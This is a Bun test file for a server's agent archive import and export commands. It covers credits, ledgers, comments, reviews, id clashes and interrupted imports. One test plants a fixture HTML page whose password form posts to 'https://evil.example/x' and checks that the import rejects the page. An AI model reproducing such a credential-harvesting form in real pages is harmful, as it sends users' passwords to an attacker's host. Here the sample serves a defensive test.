import {
  afterAll,
  afterEach,
  beforeAll,
  beforeEach,
  describe,
  expect,
  setDefaultTimeout,
  test,
} from 'bun:test'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'

import { unzipSync } from 'fflate'

import { findByMention } from '../../people/agents/agents.ts'
import { listAudit } from '../../people/audit/audit.ts'
import { runCommand } from '../../server/operator/control.ts'
import {
  changedAgent,
  contentOf,
  type FileChanges,
  fillAgent,
  type FilledAgent,
  writeChanged,
} from '../../testing/fixtures/agent-archives.ts'
import { temporaryFolder } from '../../testing/fixtures/temporary-folder.ts'
import {
  startTestServer,
  type TestAgent,
  type TestServer,
} from '../../testing/fixtures/test-server.ts'
import { Archive } from './archive.ts'

setDefaultTimeout(180_000)
let folder: ReturnType<typeof temporaryFolder>
let old: TestServer
let t: TestServer
let ann: TestAgent
let ids: FilledAgent
let zip: Uint8Array
let handle: string
beforeAll(async () => {
  old = await startTestServer({ APP_URL: oldOrigin })
  ann = await old.agent('ann')
  ids = await fillAgent(old, ann)
  zip = (await ann.call('GET', '/me/export')).bytes
  handle = ann.handle
})
afterAll(() => old.close())
beforeEach(async () => {
  folder = temporaryFolder('berth-import-')
  t = await startTestServer()
})
afterEach(async () => {
  await t.close()
  folder.remove()
})

const file = (name = 'ann.zip'): string => join(folder.path, name)
const oldOrigin = 'https://old.example'
const importFile = (path = file(), as = '', credits = '0', server = t, from = oldOrigin) =>
  runCommand(server.ctx, { command: 'import', words: [path, from, as, credits] })
/** Writes the archive of the agent, with changed files. */
const write = (changes: FileChanges = {}, name = 'ann.zip'): string =>
  writeChanged(file(name), zip, changes)
const keyIn = (text: string): string => /ak_\w+/.exec(text)?.[0] ?? ''
const exportWith = async (key: string, server = t) =>
  (await server.call('GET', '/me/export', { key })).bytes

describe('an agent of another server', () => {
  test('arrives whole: apps, versions, files, data, packs, notes and links', async () => {
    writeFileSync(file(), zip)
    const { ok, text } = await importFile()
    expect(ok).toBe(true)
    expect(text).toContain(`Imported @${handle} from https://old.example as @${handle}: 4 items`)
    for (const id of Object.values(ids)) expect(text).toContain(id)
    const key = keyIn(text)
    expect(contentOf(await exportWith(key))).toEqual(contentOf(zip))
    const page = await t.request('GET', `/a/${ids.game}`)
    expect(page.status).toBe(200)
    expect((await t.call('GET', '/explore?q=boats')).body).toMatchObject({
      items: [{ id: ids.game }],
    })
    expect((await t.call('GET', '/me', { key })).body).toMatchObject({ handle, credits: 0 })
    const app = (await t.call('GET', `/apps/${ids.game}`, { key })).body
    expect(app).toMatchObject({ app: { icon: expect.any(String), cover: expect.any(Object) } })
    const next = await t.call('POST', `/apps/${ids.game}/versions`, {
      key,
      body: { html: '<!doctype html><title>Three</title>three' },
    })
    expect(next.body).toMatchObject({ app: { version: 3 } })
  })

  test('a second import of the archive adds nothing, and gives no credits twice', async () => {
    writeFileSync(file(), zip)
    expect((await importFile(file(), '', '150')).text).toContain('has 150 here')
    const before = await t.snapshot()
    const entries = (await listAudit(t.ctx, 2)).map(({ did, by }) => `${did} by ${by}`)
    expect(entries.toSorted()).toEqual(['grant by command line', 'import by command line'])
    const again = await importFile(file(), '', '150')
    expect(again).toMatchObject({ ok: true })
    expect(again.text).toContain('was imported before. Added now: 0 items, 0 reviews, 0 comments')
    expect((await importFile(file(), '', '300')).text).toContain('has 150 here')
    const { audit: _, ...after } = Object(await t.snapshot())
    expect(Object(before)).toMatchObject(after)
  })

  test('gets a fraction of a credit too, as far as the operator allows', async () => {
    write({ 'agent.json': changedAgent(zip, { credits: 399.5 }) })
    const { ok, text } = await importFile()
    expect([ok, text]).toEqual([true, expect.stringMatching(/had 399\.5 .*: --credits 400$/)])
    expect(await importFile(file(), '', '400')).toMatchObject({
      ok: true,
      text: expect.stringContaining('It had 399.5 credits there and has 399.5 here.'),
    })
    expect((await t.call('GET', '/me', { key: keyIn(text) })).body).toMatchObject({
      credits: 399.5,
    })
  })

  test('stores its ledger unread, and within its quota', async () => {
    const ledger = `${'no entry of this version '.repeat(100)}\n`
    write({ 'ledger.jsonl': ledger }, 'long.zip')
    write({ 'ledger.jsonl': '' }, 'short.zip')
    expect(await importFile(file('short.zip'), 'short')).toMatchObject({ ok: true })
    expect(await importFile(file('long.zip'), 'long')).toMatchObject({ ok: true })
    const long = (await findByMention(t.ctx, '@long'))?.storedBytes ?? 0
    const short = (await findByMention(t.ctx, '@short'))?.storedBytes ?? 0
    expect(long - short).toBe(ledger.length)
  })

  test('comments only on items of others that are listed and take comments', async () => {
    const cas = await old.agent('cas')
    const open = await cas.publish({ title: 'Open', kind: 'game', store: true })
    const hidden = await cas.publish({ title: 'Hidden', kind: 'game' })
    const silent = await cas.publish({ title: 'Silent', kind: 'game', store: true })
    expect((await cas.call('PATCH', `/apps/${silent}`, { comments: false })).status).toBe(200)
    writeFileSync(file('cas.zip'), (await cas.call('GET', '/me/export')).bytes)
    expect((await importFile(file('cas.zip'))).text).toContain(': 3 items')
    const comment = { author: `@${handle}`, created: '2001-01-01T00:00:00Z', replyTo: null }
    const lines = [
      { ...comment, id: 'reply-------', item: open, text: 'Reply', replyTo: 'parent------' },
      { ...comment, id: 'parent------', item: open, text: 'Parent' },
      { ...comment, id: 'stray-------', item: open, text: 'Stray', replyTo: 'nowhere-----' },
      { ...comment, id: 'cross-------', item: ids.game, text: 'Cross', replyTo: 'parent------' },
      { ...comment, id: 'hidden------', item: hidden, text: 'Hidden' },
      { ...comment, id: 'silent------', item: silent, text: 'Silent' },
    ]
    write({ 'comments.jsonl': lines.map((line) => `${JSON.stringify(line)}\n`).join('') })
    expect((await importFile()).text).toContain('4 comments')
    const commentsOn = async (id: string) =>
      Object((await t.call('GET', `/explore/${id}/comments`)).body).comments.map(
        ({ text, replyTo }: { text: string; replyTo: string | null }) => [text, replyTo],
      )
    expect((await commentsOn(open)).toSorted()).toEqual([
      ['Parent', null],
      ['Reply', 'parent------'],
      ['Stray', null],
    ])
    expect(await commentsOn(ids.game)).toEqual([['Cross', null]])
  })

  test('lets other work run while its lines are read', async () => {
    write({ 'notes.jsonl': '{}\n'.repeat(50_000) })
    const archive = await Archive.open(file())
    let ran: boolean | undefined
    for await (const _ of archive.lines('notes.jsonl', (line) => line)) {
      if (ran === undefined) setImmediate(() => (ran = true))
      ran ??= false
    }
    expect(ran).toBe(true)
  })

  test('brings its ledger along as a document, and takes it to the next server', async () => {
    writeFileSync(file(), zip)
    const there = await exportWith(keyIn((await importFile()).text))
    const earlier = new TextDecoder().decode(unzipSync(there)['earlier-ledger.jsonl'])
    const [head = '', first = ''] = earlier.split('\n')
    expect(JSON.parse(head)).toMatchObject({ kind: 'import', server: 'https://old.example' })
    expect(JSON.parse(first)).toMatchObject({ kind: 'start' })
    expect(unzipSync(there)['ledger.jsonl']).toHaveLength(0)
    writeFileSync(file('next.zip'), there)
    const next = await startTestServer()
    const third = await exportWith(
      keyIn((await importFile(file('next.zip'), '', '0', next, 'http://localhost:3000')).text),
      next,
    )
    const all = new TextDecoder().decode(unzipSync(third)['earlier-ledger.jsonl'])
    expect(all.split('\n').filter((line) => line.includes('"import"'))).toHaveLength(2)
    expect(contentOf(third)).toEqual(contentOf(zip))
    await next.close()
  })

  test('gets other ids and a handle of its own where those are taken', async () => {
    writeFileSync(file(), zip)
    const first = await importFile(file(), '', '0', old)
    expect(first).toMatchObject({ ok: false, text: expect.stringContaining('--as <handle>') })
    const { ok, text } = await importFile(file(), 'other-boats', '0', old)
    expect(ok).toBe(true)
    for (const id of Object.values(ids)) {
      expect(text).toContain(`(its id was ${id}, which is taken here)`)
    }
    const links = contentOf(await exportWith(keyIn(text), old))
    expect(Object.keys(links)).toHaveLength(Object.keys(contentOf(zip)).length)
  })

  test('keeps reviews of items that came from the same server, without a vote', async () => {
    const ben = await old.agent('ben')
    await ben.call('GET', `/explore/${ids.game}/source`)
    await ben.call('POST', `/apps/${ids.game}/remix`, {})
    const review = { stars: 5, text: 'Calm water.' }
    expect((await ben.call('PUT', `/explore/${ids.game}/review`, review)).status).toBe(201)
    writeFileSync(file('ben.zip'), (await ben.call('GET', '/me/export')).bytes)
    writeFileSync(file(), zip)
    expect((await importFile(file('ben.zip'))).text).toContain('1 item, 0 reviews')
    await importFile()
    // The reviewed game is here now.
    expect((await importFile(file('ben.zip'))).text).toContain('0 items, 1 review,')
    expect((await t.call('GET', `/explore/${ids.game}/reviews`)).body).toMatchObject({
      reviews: [{ author: `@${ben.handle}`, ...review, counts: false }],
      rating: { count: 0 },
    })
  })

  test('is completed by the next import after one that broke off', async () => {
    writeFileSync(file(), zip)
    const put = t.ctx.storage.put.bind(t.ctx.storage)
    let attempts = 0
    for (let ok = false; !ok; attempts += 1) {
      let left = attempts
      t.ctx.storage.put = (bytes) => {
        left -= 1
        return left < 0 ? Promise.reject(new Error('no disk')) : put(bytes)
      }
      const result = await importFile()
      ok = result.ok
      if (!ok) expect(result.text).toBe('no disk')
    }
    t.ctx.storage.put = put
    expect(attempts).toBeGreaterThan(3)
    const { text } = await runCommand(t.ctx, { command: 'keys', words: ['add', `@${handle}`] })
    expect(contentOf(await exportWith(keyIn(text)))).toEqual(contentOf(zip))
  })

  test('a page that may not be published here is left out with its reason', async () => {
    const path = `apps/${ids.site}/versions/1/index.html`
    const bad =
      '<!doctype html><title>x</title><form action="https://evil.example/x"><input type="password" name="p"></form>'
    write({ [path]: bad })
    const { ok, text } = await importFile()
    expect(ok).toBe(true)
    expect(text).toContain(`Not imported: ${ids.site} Site: `)
    expect(text).toContain(': 3 items')
    expect((await t.request('GET', `/a/${ids.site}`)).status).toBe(404)
  })
})

test('the operator exports an agent by its handle into a new file', async () => {
  const words = [`@${handle}`, file('out.zip')]
  const { ok, text } = await runCommand(old.ctx, { command: 'export', words })
  expect([ok, text]).toEqual([true, expect.stringContaining(`Exported @${handle} to `)])
  const own = (await ann.call('GET', '/me/export')).bytes
  expect(contentOf(await Bun.file(file('out.zip')).bytes())).toEqual(contentOf(own))
  for (const wrong of [words, ['@nobody', file('b.zip')], ['ann', file('b.zip')], []]) {
    expect(await runCommand(old.ctx, { command: 'export', words: wrong })).toMatchObject({
      ok: false,
    })
  }
})
